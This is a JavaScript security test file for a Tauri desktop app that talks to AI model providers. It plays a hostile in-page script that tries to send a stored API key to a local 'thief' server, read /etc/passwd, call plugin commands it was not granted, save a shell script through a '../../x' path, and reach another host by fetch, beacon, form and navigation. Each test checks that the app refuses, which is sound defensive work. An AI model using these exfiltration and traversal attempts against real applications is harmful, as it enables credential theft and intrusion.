/**
 * A script running in the page, wherever it came from, tries to get a key, a file and another host, with an attacker's
 * server on another port. It gets none of them. A history that cannot be opened gets its own page.
 */

import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { existsSync, readdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { serve } from "./lib/provider.mjs";
import { shoot } from "./lib/shots.mjs";
import { freshHome, open, removeHome } from "./lib/window.mjs";

describe("a script in the page", () => {
  const key = `marker${randomBytes(18).toString("hex")}`;
  let home;
  let thief;
  let window;
  let id;

  /** Calls a command as a script can; returns its answer or its refusal. */
  const tries = (name, given = {}) =>
    window.browser.execute(
      (n, g) =>
        window.__TAURI_INTERNALS__.invoke(n, g).then(
          (answer) => ({ answer }),
          (refusal) => ({ refusal: JSON.stringify(refusal) ?? String(refusal) }),
        ),
      name,
      given,
    );
  const stolen = () => thief.requests.filter(({ authorization }) => authorization.includes(key));
  const endpoint = (url, given = null) => ({
    endpoint: {
      id: given,
      label: "GPU box",
      dialect: "openai-chat",
      base_url: url,
      key_needed: true,
      confirm_plain_http: true,
    },
  });

  before(async () => {
    home = await serve({ m: () => ({ status: 404, body: {} }) });
    thief = await serve({ m: () => ({ status: 404, body: {} }) });
    window = await open({ env: { DEEPSEEK_API_KEY: key } });
    const saved = await tries("save_endpoint", endpoint(home.url));
    id = saved.answer.id;
    await tries("set_key", { provider: id, key, sessionOnly: false });
    await tries("set_key", { provider: "groq", key, sessionOnly: false });
  });
  after(async () => {
    for (const provider of ["groq", "deepseek"]) {
      await tries("set_address", { provider, baseUrl: null, confirmPlainHttp: false });
      await tries("forget_key", { provider });
    }
    await tries("save_endpoint", endpoint(home.url, id));
    await tries("remove_endpoint", { id });
    await window?.close();
    home?.close();
    thief?.close();
  });

  it("sends a key to the address it was given for", async () => {
    await tries("list_models", { provider: id });
    assert.equal(home.requests.at(-1)?.authorization, `Bearer ${key}`, "so the rest of this file means something");
  });

  it("gets no key by moving an address", async () => {
    const moved = await tries("save_endpoint", endpoint(thief.url, id));
    assert.equal(moved.answer?.kept, undefined, "a moved endpoint has no key");
    await tries("list_models", { provider: id });
    for (const provider of ["groq", "deepseek"]) {
      await tries("set_address", { provider, baseUrl: thief.url, confirmPlainHttp: true });
      await tries("copy_key", { provider, sessionOnly: true });
      await tries("list_models", { provider });
    }
    assert.deepEqual(stolen(), [], "the key went to nobody else");
    await tries("save_endpoint", endpoint(home.url, id));
    await tries("list_models", { provider: id });
    assert.equal(home.requests.at(-1)?.authorization, `Bearer ${key}`, "back at home it has its key again");
  });

  it("gets no key by another's name, or as a server that was found", async () => {
    for (const name of ["proxy", "custom", "groq", `groq@${thief.url}`]) {
      const taken = await tries("save_endpoint", endpoint(thief.url, name));
      assert.ok(taken.refusal, `${name} is nobody's to take`);
    }
    await tries("set_address", { provider: "groq", baseUrl: null, confirmPlainHttp: false });
    const server = { provider: "groq", label: "Groq", base_url: thief.url, models: [], loaded: [] };
    const found = await tries("keep_local_server", { server });
    assert.match(found.refusal ?? "", /has a key/, "an address with a key is not replaced");
    assert.deepEqual(stolen(), [], "and the key went to nobody");
  });

  it("gets no file, no folder and no command that is not granted", async () => {
    for (const [name, given] of [
      ["refresh_prices", { from: "/etc/passwd" }],
      ["plugin:path|resolve_directory", { directory: 21 }],
      ["plugin:window|create", { options: { label: "x", url: thief.url } }],
      ["plugin:webview|create_webview_window", { options: { label: "x", url: thief.url } }],
      ["plugin:webview|internal_toggle_devtools", {}],
      ["plugin:app|version", {}],
      ["plugin:event|listen", { event: "x", target: { kind: "Any" }, handler: 1 }],
    ]) {
      const { answer, refusal } = await tries(name, given);
      assert.match(refusal ?? "", /not allowed|not found/i, `${name} is refused: ${JSON.stringify(answer)}`);
    }
    const script = Buffer.from("#!/bin/sh\necho").toString("base64");
    const saved = await tries("save_picture", { name: "../../x", format: "svg", base64: script });
    assert.match(saved.refusal ?? "", /no svg picture/, "only a picture is saved as one");
  });

  it("reaches no other host, by whatever way", async () => {
    const before = thief.requests.length;
    const here = await window.browser.execute(() => location.href);
    await window.browser.execute(async (url) => {
      await fetch(url).catch(() => undefined);
      navigator.sendBeacon?.(url, "x");
      new Image().src = `${url}/image`;
      const form = document.createElement("form");
      Object.assign(form, { method: "post", action: url });
      document.body.append(form);
      form.submit();
      form.remove();
      window.open(url);
      location.href = `${url}/navigated`;
    }, thief.url);
    await window.browser.pause(1500);
    assert.equal(await window.browser.execute(() => location.href), here, "the window stayed where it was");
    assert.equal(thief.requests.length, before, "nothing reached the other host");
    assert.equal((await window.browser.getWindowHandles()).length, 1, "and no other window opened");
  });

  it("changes nothing that every object has", async () => {
    const frozen = await window.browser.execute(() => Object.isFrozen(Object.prototype));
    assert.equal(frozen, true, "what every object has is frozen");
  });
});

describe("a history that cannot be opened", () => {
  let home;
  let window;
  const data = () => path.join(home, "data");

  before(async () => {
    home = freshHome();
    writeFileSync(path.join(data(), "paceline.db"), "Dear diary, ".repeat(1000));
    window = await open({ home, shows: "#why", sized: false });
  });
  after(async () => {
    await window?.close();
    removeHome(home);
  });

  it("is told in the window, with ways on", async () => {
    const { browser } = window;
    assert.match(await browser.$("#why").getText(), /is damaged/, "what is wrong");
    assert.ok(await browser.$("#restart").isExisting(), "it can be tried again");
    assert.ok(await browser.$("#move-aside").isExisting(), "a new one can be started");
    assert.ok(await browser.$("#folder").isExisting(), "and the folder be looked into");
    await shoot(browser, "safe-mode");
    assert.deepEqual(
      readdirSync(data()).filter((name) => name.startsWith("paceline.db.")),
      [],
      "nothing was changed by looking",
    );
    assert.ok(existsSync(path.join(data(), "paceline.db")), "the file is where it was");
  });
});
